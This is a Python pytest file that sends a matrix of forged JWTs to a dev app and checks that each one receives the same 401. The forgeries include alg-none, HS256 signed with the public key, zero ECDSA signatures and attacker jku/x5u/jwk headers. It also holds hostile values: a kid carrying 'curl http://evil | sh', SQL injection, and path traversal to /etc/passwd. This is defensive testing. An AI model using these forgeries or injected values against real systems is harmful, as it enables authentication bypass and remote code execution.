"""The JWT attack matrix (RFC 8725), as real HTTP requests against the app.

Every attack must get the very same 401 as a plainly malformed token: same body, same
`WWW-Authenticate`, so a probe learns nothing about which check failed. The control
test (a well-formed token mints) keeps the matrix honest: it proves the app would
have said 200 to a token that was not an attack.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

import httpx
import jwt
import pytest
from jwt.algorithms import RSAAlgorithm

from service.auth.tokens import MAX_TOKEN_CHARS
from service.config.settings import load_settings
from service.dev import create_dev_app
from tests.security.conftest import (
    AUDIENCE,
    ISSUER,
    MINT,
    MINT_BODY,
    Keys,
    b64,
    b64json,
    bearer,
    claims,
    rs256,
)

Attack = Callable[[Keys], str]


def _signed_raw(keys: Keys, header: bytes, payload: bytes) -> str:
    """RS256-sign arbitrary header/payload bytes with the tenant's real key."""
    signing_input = f"{b64(header)}.{b64(payload)}".encode()
    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(signing_input, keys.rsa)
    return f"{signing_input.decode()}.{b64(signature)}"


def _unsigned(alg: str) -> Attack:
    return lambda keys: f"{b64json({'alg': alg, 'typ': 'JWT'})}.{b64json(claims())}."


def _hs256_with_public_key(keys: Keys) -> str:
    signing_input = f"{b64json({'alg': 'HS256', 'kid': 'rsa-1'})}.{b64json(claims())}"
    mac = hmac.new(keys.rsa_public_pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(mac)}"


def _hs256_empty_key_kid(kid: str) -> Attack:
    def make(keys: Keys) -> str:
        signing_input = f"{b64json({'alg': 'HS256', 'kid': kid})}.{b64json(claims())}"
        mac = hmac.new(b"", signing_input.encode(), hashlib.sha256).digest()
        return f"{signing_input}.{b64(mac)}"

    return make


def _attacker_kid(kid: str) -> Attack:
    return lambda keys: jwt.encode(claims(), keys.attacker, algorithm="RS256", headers={"kid": kid})


def _attacker_header(**headers: Any) -> Attack:
    def make(keys: Keys) -> str:
        extra = {k: (v(keys) if callable(v) else v) for k, v in headers.items()}
        return jwt.encode(claims(), keys.attacker, algorithm="RS256", headers=extra)

    return make


def _attacker_jwk(keys: Keys) -> dict[str, Any]:
    jwk: dict[str, Any] = json.loads(RSAAlgorithm.to_jwk(keys.attacker.public_key()))
    return {**jwk, "kid": "rsa-1"}


def _ecdsa_zero(keys: Keys) -> str:
    header = b64json({"alg": "ES256", "kid": "ec-1", "typ": "JWT"})
    return f"{header}.{b64json(claims())}.{b64(bytes(64))}"


def _claims(**overrides: Any) -> Attack:
    return lambda keys: rs256(keys, claims(**overrides))


def _now() -> int:
    return int(time.time())


def _duplicate_claim(keys: Keys) -> str:
    # Signed with the real key: the duplicate itself must be the reason for the refusal.
    payload = claims()
    text = json.dumps(payload)[:-1] + ', "sub": "admin"}'
    return _signed_raw(keys, json.dumps({"alg": "RS256", "kid": "rsa-1"}).encode(), text.encode())


def _duplicate_alg(keys: Keys) -> str:
    header = b'{"alg": "RS256", "kid": "rsa-1", "alg": "none"}'
    return _signed_raw(keys, header, json.dumps(claims()).encode())


def _padded(padding: str) -> Attack:
    return lambda keys: rs256(keys, claims()) + padding


def _oversized(keys: Keys) -> str:
    return rs256(keys, claims(pad="x" * MAX_TOKEN_CHARS))


def _non_utf8_header(keys: Keys) -> str:
    header = b'{"alg": "RS256", "kid": "rsa-1", "x": "\xff\xfe"}'
    return _signed_raw(keys, header, json.dumps(claims()).encode())


def _non_utf8_payload(keys: Keys) -> str:
    payload = json.dumps(claims()).encode()[:-1] + b', "name": "\xc3\x28"}'
    return _signed_raw(keys, b'{"alg": "RS256", "kid": "rsa-1"}', payload)


def _utf16_payload(keys: Keys) -> str:
    payload = json.dumps(claims()).encode("utf-16")
    return _signed_raw(keys, b'{"alg": "RS256", "kid": "rsa-1"}', payload)


def _crit(keys: Keys) -> str:
    headers = {"kid": "rsa-1", "crit": ["urn:example:unknown"], "urn:example:unknown": 1}
    return jwt.encode(claims(), keys.rsa, algorithm="RS256", headers=headers)


ATTACKS: dict[str, Attack] = {
    **{f"alg-{alg}": _unsigned(alg) for alg in ("none", "None", "NONE", "nOnE", "NoNe")},
    "alg-none-with-signature": lambda k: _unsigned("none")(k) + "c2ln",
    "alg-missing": lambda k: _signed_raw(k, b'{"kid": "rsa-1"}', json.dumps(claims()).encode()),
    "hs256-signed-with-rsa-public-key": _hs256_with_public_key,
    "kid-path-traversal-hs256-empty-key": _hs256_empty_key_kid("../../../../../../dev/null"),
    "kid-path-traversal": _attacker_kid("../../../../etc/passwd"),
    "kid-sql": _attacker_kid("x' UNION SELECT 'key' --"),
    "kid-shell": _attacker_kid("rsa-1; curl http://evil | sh $(id) `id`"),
    "kid-of-real-key-signed-by-attacker": _attacker_kid("rsa-1"),
    "jku-attacker": _attacker_header(jku="https://evil.example/jwks.json", kid="evil"),
    "x5u-attacker": _attacker_header(x5u="https://evil.example/cert.pem", kid="evil"),
    "jwk-embedded-attacker": _attacker_header(jwk=_attacker_jwk),
    "ecdsa-r0-s0": _ecdsa_zero,
    "expired": _claims(iat=_now() - 7200, exp=_now() - 3600),
    "not-yet-valid": _claims(nbf=_now() + 3600),
    "issued-in-future": _claims(iat=_now() + 3600, exp=_now() + 7200),
    "exp-missing": _claims(exp=None),
    "exp-as-string": _claims(exp=str(_now() + 600)),
    "exp-as-float-string-bool": _claims(exp=True),
    "iss-wrong": _claims(iss="https://evil.example"),
    "iss-missing": _claims(iss=None),
    "aud-wrong": _claims(aud="someone-else"),
    "aud-missing": _claims(aud=None),
    "aud-not-a-string": _claims(aud=[1, 2]),
    "duplicate-claim": _duplicate_claim,
    "duplicate-header-alg": _duplicate_alg,
    "signature-padding-1": _padded("="),
    "signature-padding-2": _padded("=="),
    "signature-extra-char": _padded("A"),
    "oversized": _oversized,
    "non-utf8-header": _non_utf8_header,
    "non-utf8-payload": _non_utf8_payload,
    "utf16-payload": _utf16_payload,
    "crit-unknown": _crit,
    "four-segments": lambda k: rs256(k, claims()) + ".e30",
    "empty": lambda k: "",
}


@pytest.fixture
async def reference_401(jwks_client: httpx.AsyncClient) -> httpx.Response:
    return await jwks_client.post(MINT, json=MINT_BODY, headers=bearer("not-a-token"))


async def test_control_a_genuine_token_mints(jwks_client: httpx.AsyncClient, keys: Keys) -> None:
    rsa_response = await jwks_client.post(
        MINT, json=MINT_BODY, headers=bearer(rs256(keys, claims()))
    )
    ec_token = jwt.encode(claims(sub="bob"), keys.ec, algorithm="ES256", headers={"kid": "ec-1"})
    ec_response = await jwks_client.post(MINT, json=MINT_BODY, headers=bearer(ec_token))

    assert rsa_response.status_code == 200, rsa_response.text
    assert ec_response.status_code == 200, ec_response.text


def test_reference_401_shape(reference_401: httpx.Response) -> None:
    assert reference_401.status_code == 401
    assert reference_401.json()["error"]["code"] == "invalid_token"
    assert reference_401.json()["error"]["type"] == "authentication_error"
    assert reference_401.headers["www-authenticate"].startswith('Bearer error="invalid_token"')


@pytest.mark.parametrize("name", sorted(ATTACKS))
async def test_attack_gets_the_same_401(
    name: str, jwks_client: httpx.AsyncClient, keys: Keys, reference_401: httpx.Response
) -> None:
    token = ATTACKS[name](keys)

    response = await jwks_client.post(MINT, json=MINT_BODY, headers=bearer(token))

    assert response.status_code == 401, response.text
    assert response.json() == reference_401.json()
    assert response.headers["www-authenticate"] == reference_401.headers["www-authenticate"]
    if token:
        assert token not in response.text


@pytest.mark.parametrize(
    "authorization",
    [["Basic YWxpY2U6cHc="], ["Bearer"], ["bearer  x.y.z"], ["Bearer a.b.c", "Bearer a.b.c"]],
)
async def test_malformed_authorization_headers(
    authorization: list[str], jwks_client: httpx.AsyncClient, reference_401: httpx.Response
) -> None:
    headers = [("Authorization", value) for value in authorization]

    response = await jwks_client.post(MINT, json=MINT_BODY, headers=headers)

    assert response.status_code == 401
    assert response.json() == reference_401.json()


TENANT_SECRETS = {
    "acme": "acme-secret-0123456789-abcdefghijklmnop",
    "globex": "globex-secret-0123456789-abcdefghijklmn",
}


def _multi_tenant_app() -> httpx.AsyncClient:
    env = {"BROKER_TENANTS": "acme,globex", "BROKER_UPSTREAM": "fake"}
    for tenant, secret in TENANT_SECRETS.items():
        env[f"BROKER_{tenant.upper()}_JWT_SECRET"] = secret
        env[f"BROKER_{tenant.upper()}_JWT_ISSUER"] = f"https://{tenant}.example"
        env[f"BROKER_{tenant.upper()}_JWT_AUDIENCE"] = AUDIENCE
    app = create_dev_app(load_settings(env))
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://b")


@pytest.mark.parametrize(
    ("signed_by", "issuer", "expected"),
    [
        ("acme", "acme", 200),
        ("globex", "globex", 200),
        ("acme", "globex", 401),  # tenant A's key, presented as tenant B
        ("globex", "acme", 401),
    ],
)
async def test_token_of_one_tenant_never_mints_for_another(
    signed_by: str, issuer: str, expected: int
) -> None:
    payload = claims(iss=f"https://{issuer}.example", aud=AUDIENCE)
    token = jwt.encode(payload, TENANT_SECRETS[signed_by], algorithm="HS256")

    async with _multi_tenant_app() as client:
        response = await client.post(MINT, json=MINT_BODY, headers=bearer(token))

    assert response.status_code == expected, response.text


def test_issuer_constant_is_used() -> None:
    # The matrix's iss/aud attacks only mean something if the app requires these values.
    assert ISSUER.startswith("https://")
    assert AUDIENCE
